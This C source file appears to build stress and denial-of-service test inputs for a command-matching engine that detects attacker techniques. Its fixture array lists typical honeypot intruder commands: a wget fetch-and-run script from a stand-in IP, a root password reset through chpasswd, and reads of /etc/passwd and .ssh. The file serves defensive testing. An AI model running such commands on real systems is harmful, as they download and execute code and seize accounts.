/* SPDX-License-Identifier: Apache-2.0 */
#include "cli/hostile.h"

#include "match/pattern_internal.h"

#include <errno.h>

#define LONG_TEXT (10u << 20)
#define WAKING_TEXT (256u << 10)
#define LIST_ITEMS 1000000u
#define FIELDS 10000u
#define SHARED_RULES 500u

static const char *const ordinary[] = {
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp || cd /var/run; wget http://192.0.2.7/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh",
    "ls -lh $(which ls)",
    "echo root:Ab3kq9ZX|chpasswd|bash",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "/bin/busybox ECCHI",
    "crontab -l",
    "w",
    "top",
    "cat /etc/passwd",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "ps aux | grep -v root | sort | uniq",
    "mkdir -p .ssh && cd .ssh && ls -la",
    "history | tail -n 5; exit",
};
#define N_ORDINARY (sizeof(ordinary) / sizeof(ordinary[0]))

/* ---- texts ---- */

static void repeat_to(buf *out, str piece, size_t len)
{
    while (piece.len && out->len < len && !out->failed)
        buf_put_str(out, piece);
    if (out->len > len)
        out->len = len;
}

typedef void put_atom_fn(buf *out, str atom);

static void put_whole(buf *out, str atom)
{
    buf_put_str(out, atom);
    buf_put_char(out, ' ');
}

/* What a look-up by windows meets, and no comparison of the whole atom does. */
static void put_windows(buf *out, str atom)
{
    for (size_t at = 0; at + 4 <= atom.len; at++) {
        buf_put(out, atom.ptr + at, 4);
        buf_put_char(out, '\x7F');
    }
}

/* All of the atom but its last byte. */
static void put_nearly(buf *out, str atom)
{
    if (atom.len < 2)
        return;
    buf_put(out, atom.ptr, atom.len - 1);
    buf_put_c(out, "\x7F");
}

/* Atoms are canonical; what is not ASCII is left out, so that any part of one is valid UTF-8. */
static bool is_ascii(str s)
{
    for (size_t i = 0; i < s.len; i++) {
        if ((unsigned char)s.ptr[i] >= 0x80)
            return false;
    }
    return true;
}

static void put_atoms(buf *out, rule *const *rules, size_t n, put_atom_fn *put)
{
    for (size_t i = 0; i < n; i++) {
        for (size_t k = 0; k < rules[i]->n_leaves; k++) {
            const leaf *l = &rules[i]->leaves[k];

            for (size_t j = 0; j < l->n_patterns; j++) {
                const atom_set *atoms = pattern_get_atoms(l->patterns[j]);

                for (uint32_t a = 0; atoms && a < atoms->n_texts; a++) {
                    if (is_ascii(atoms->texts[a]))
                        put(out, atoms->texts[a]);
                }
            }
        }
    }
}

/* ---- events ---- */

/* payload: the members of the object. */
static int add_event(hostile_case *c, const buf *payload)
{
    auto_free(buf) buf b = {0};
    ttp_event **events;
    int rc;

    buf_printf(&b,
               "{\"source_kind\":\"command\",\"source_id\":\"h%zu\",\"attacker_uuid\":\"a\","
               "\"payload\":{",
               c->n_events);
    buf_put(&b, payload->ptr, payload->len);
    buf_put_c(&b, "}}");
    if (b.failed || payload->failed)
        return -ENOMEM;
    events = realloc(c->events, (c->n_events + 1) * sizeof(ttp_event *));
    if (!events)
        return -ENOMEM;
    c->events = events;
    rc = ttp_event_from_json(b.ptr, b.len, &c->events[c->n_events], NULL);
    if (rc)
        return rc < 0 ? rc : -EINVAL;
    c->n_events++;
    c->n_bytes += b.len;
    return 0;
}

static int add_text(hostile_case *c, str text)
{
    auto_free(buf) buf payload = {0};

    buf_put_c(&payload, "\"command_text\":");
    buf_put_json(&payload, text);
    return add_event(c, &payload);
}

static hostile_case *new_case(hostile_set *s, const char *name, const engine_index *index)
{
    hostile_case *c = &s->cases[s->n_cases++];

    *c = (hostile_case){.name = name, .index = index};
    return c;
}

static int add_repeated(hostile_set *s, const char *name, const engine_index *index, str piece,
                        size_t len)
{
    auto_free(buf) buf text = {0};

    repeat_to(&text, piece, len);
    return text.failed ? -ENOMEM : add_text(new_case(s, name, index), buf_str(&text));
}

static int make_ordinary(hostile_case *c, const char *name, const engine_index *index)
{
    int rc = 0;

    *c = (hostile_case){.name = name, .index = index};
    for (size_t i = 0; !rc && i < N_ORDINARY; i++)
        rc = add_text(c, str_from(ordinary[i]));
    return rc;
}

static int make_long(hostile_set *s)
{
    auto_free(buf) buf all = {0};
    int rc;

    for (size_t i = 0; i < N_ORDINARY; i++) {
        buf_put_c(&all, ordinary[i]);
        buf_put_c(&all, "; ");
    }
    rc = add_repeated(s, "10 MB of commands", s->pack, buf_str(&all), LONG_TEXT);
    return rc ? rc : add_repeated(s, "10 MB of one letter", s->pack, STR("a"), LONG_TEXT);
}

static int make_list(hostile_set *s)
{
    auto_free(buf) buf payload = {0};

    buf_put_c(&payload, "\"command_text\":[");
    for (unsigned i = 0; i < LIST_ITEMS; i++)
        buf_put_c(&payload, i ? ",\"ls\"" : "\"ls\"");
    buf_put_char(&payload, ']');
    return add_event(new_case(s, "a list of 1,000,000", s->pack), &payload);
}

static int make_fields(hostile_set *s)
{
    auto_free(buf) buf payload = {0};

    for (unsigned i = 0; i < FIELDS; i++)
        buf_printf(&payload, "\"command_tex%u\":\"uname -a\",", i);
    buf_put_c(&payload, "\"command_text\":\"uname -a\"");
    return add_event(new_case(s, "10,000 fields", s->pack), &payload);
}

static int make_waking(hostile_set *s, rule *const *rules, size_t n)
{
    static const struct {
        const char *name;
        put_atom_fn *put;
    } kinds[] = {
        {"all atoms", put_whole},
        {"all windows of atoms", put_windows},
        {"all atoms but a byte", put_nearly},
    };
    int rc = 0;

    for (unsigned i = 0; !rc && i < sizeof(kinds) / sizeof(kinds[0]); i++) {
        auto_free(buf) buf atoms = {0};

        put_atoms(&atoms, rules, n, kinds[i].put);
        rc = atoms.failed ? -ENOMEM
                          : add_repeated(s, kinds[i].name, s->pack, buf_str(&atoms), WAKING_TEXT);
    }
    return rc;
}

/* ---- rules that share one atom ---- */

static rule *shared_rule(unsigned number)
{
    auto_free(buf) buf b = {0};
    rule *r = NULL;

    buf_printf(
        &b,
        "{rule_id: H%u, rule_version: 1, name: shared, applies_to: [command], match: "
        "{pattern: 'qzjxkw[^#]{%u}[0-9]+[^#]*[%c-%c][^a-z#]*[#~]'}, emits: [{tactic: TA0002, "
        "technique_id: T1059, confidence: 0.5}]}",
        number, number % 100, 'a' + (char)(number / 100), 'g' + (char)(number / 100));
    return b.failed || rule_read(buf_str(&b), NULL, NULL, &r, NULL) ? NULL : r;
}

static int make_shared(hostile_set *s)
{
    rule *rules[SHARED_RULES] = {NULL};
    int rc = 0;

    for (unsigned i = 0; !rc && i < SHARED_RULES; i++) {
        rules[i] = shared_rule(i);
        rc = rules[i] ? 0 : -ENOMEM;
    }
    if (!rc)
        rc = engine_index_new(rules, SHARED_RULES, STR("hostile"), &s->shared);
    for (unsigned i = 0; i < SHARED_RULES; i++)
        (void)rule_unref(rules[i]); /* returns NULL */
    return rc ? rc
              : add_repeated(s, "an atom that 500 patterns share", s->shared, STR("qzjxkw a1 "),
                             WAKING_TEXT);
}

int hostile_set_make(rule *const *rules, size_t n, hostile_set *ret_set)
{
    hostile_set *s = ret_set;
    int rc;

    *s = (hostile_set){0};
    rc = engine_index_new(rules, n, STR("hostile"), &s->pack);
    if (!rc)
        rc = make_ordinary(&s->ordinary, "ordinary commands", s->pack);
    if (!rc)
        rc = make_long(s);
    if (!rc)
        rc = make_list(s);
    if (!rc)
        rc = make_fields(s);
    if (!rc)
        rc = make_waking(s, rules, n);
    return rc ? rc : make_shared(s);
}

static void end_case(hostile_case *c)
{
    for (size_t i = 0; i < c->n_events; i++)
        (void)ttp_event_free(c->events[i]); /* returns NULL */
    free(c->events);
}

void hostile_set_done(hostile_set *s)
{
    end_case(&s->ordinary);
    for (size_t i = 0; i < s->n_cases; i++)
        end_case(&s->cases[i]);
    (void)engine_index_unref(s->pack);   /* returns NULL */
    (void)engine_index_unref(s->shared); /* returns NULL */
}
